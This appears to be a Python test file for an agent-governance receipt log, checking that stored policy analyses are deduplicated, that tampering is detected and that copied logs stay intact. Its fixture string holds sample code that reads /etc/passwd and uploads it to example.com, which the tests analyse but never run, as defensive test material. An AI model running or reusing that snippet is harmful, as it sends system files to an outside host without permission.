"""Receipts stay small: the analysis and the agent's rule are stored once per log and referenced by
hash from every receipt that needs them; an auditor still reads them in full, and editing or
removing a stored one is caught by verify."""

from __future__ import annotations

import json
import sqlite3

from governed_agents import analyze, load_policy
from governed_agents.receipts import Receipt, ReceiptLog

POLICY = load_policy("policies/examples/broad.policy")
CODE = ("import os, urllib.request\nos.system('ls -l /tmp')\nwith open('/etc/passwd') as f:\n"
        "    data = f.read()\nurllib.request.urlopen('https://example.com/upload', data=data.encode())\n")


def decided(code: str = CODE) -> Receipt:
    return Receipt.from_decision(POLICY.evaluate(analyze(code), executor="broad"))


def _sql(log: ReceiptLog, statement: str, *params: object) -> None:
    db = sqlite3.connect(log.path)
    db.execute(statement, params)
    db.commit()
    db.close()


def test_a_receipt_leaf_is_small_and_reads_back_whole(tmp_path):
    original = decided()
    assert len(original.canonical()) <= 1500
    assert len(original.policy_evaluation.analysis["operations"]) >= 4
    with ReceiptLog(tmp_path / "r.db") as log:
        stored = log.append(original)
        again = log.get(stored.merkle_index)
        assert again.policy_evaluation == original.policy_evaluation
        assert again.canonical() == original.canonical()
        assert log.verify().ok
        assert log.prove(stored.merkle_index).verify()


def test_the_same_analysis_is_stored_once(tmp_path):
    with ReceiptLog(tmp_path / "r.db") as log:
        log.append_many([decided() for _ in range(5)] + [decided("import os\nos.remove('/x')\n")])
    db = sqlite3.connect(tmp_path / "r.db")
    parts = db.execute("SELECT count(*) FROM meta WHERE key LIKE 'part:%'").fetchone()[0]
    db.close()
    assert parts == 3  # two analyses, one rule


def test_editing_a_stored_analysis_is_caught(tmp_path):
    with ReceiptLog(tmp_path / "r.db") as log:
        index = log.append(decided()).merkle_index
        ref = json.loads(log.get(index).canonical())["policy_evaluation"]["analysis"]["$ref"]
        text = json.loads(dict(_meta(log))["part:" + ref])
        text["operations"] = [op for op in text["operations"] if op["type"] == "module_import"]
        _sql(log, "UPDATE meta SET value = ? WHERE key = ?", json.dumps(text), "part:" + ref)
        report = log.verify()
        assert not report.ok and any("analysis" in p and "edited" in p for p in report.problems)
        log._parts.clear()
        try:
            log.get(index)
        except ValueError as exc:
            assert "edited" in str(exc)
        else:
            raise AssertionError("an edited analysis read back as if intact")


def test_removing_a_stored_rule_is_caught(tmp_path):
    with ReceiptLog(tmp_path / "r.db") as log:
        log.append(decided())
        _sql(log, "DELETE FROM meta WHERE key LIKE 'part:%' AND value LIKE '%allowed_imports%'")
        report = log.verify()
        assert not report.ok and any("constraints" in p and "missing" in p for p in report.problems)


def test_a_copied_log_keeps_what_its_receipts_reference(tmp_path):
    with ReceiptLog(tmp_path / "a.db") as source, ReceiptLog(tmp_path / "b.db") as target:
        source.append_many([decided(), decided("import os\nos.remove('/x')\n")])
        source.copy_to(target)
        assert target.verify().ok
        assert [r.policy_evaluation for r in target.receipts()] == [r.policy_evaluation for r in source.receipts()]


def _meta(log: ReceiptLog) -> list[tuple[str, str]]:
    db = sqlite3.connect(log.path)
    rows = db.execute("SELECT key, value FROM meta").fetchall()
    db.close()
    return rows
